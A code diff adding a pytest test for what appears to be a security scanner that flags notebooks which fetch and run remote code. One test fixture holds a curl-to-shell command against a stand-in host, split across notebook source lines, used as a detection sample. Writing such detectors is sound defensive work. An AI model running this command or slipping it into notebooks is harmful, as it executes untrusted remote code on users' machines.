@@ -124,6 +124,17 @@ def test_what_an_image_fetches_and_runs(line: str) -> None:
     assert {one.rule for one in found.findings} == {"HB-V206"}
 
 
+def test_what_a_notebook_fetches_and_runs() -> None:
+    def told(source: object) -> set[str]:
+        tree = {"cells": [{"cell_type": "code", "source": source}], "nbformat": 4}
+        found = vet(Memory(json.dumps(tree).encode()), "x.ipynb")
+        return {one.rule for one in found.findings}
+
+    assert told(["!curl -s http://x.example/i", ".sh | sh\n"]) == {"HB-V206"}
+    assert told("!pip install -q numpy==2.0\nprint(1)") == set()
+    assert told(7) == set()
+
+
 @pytest.mark.parametrize("principal", ["*", {"AWS": "*"}, {"AWS": ["*"]}])
 def test_a_bucket_for_anybody(principal: object) -> None:
     found = vet(Memory(statement(principal).encode()), "policy.json")
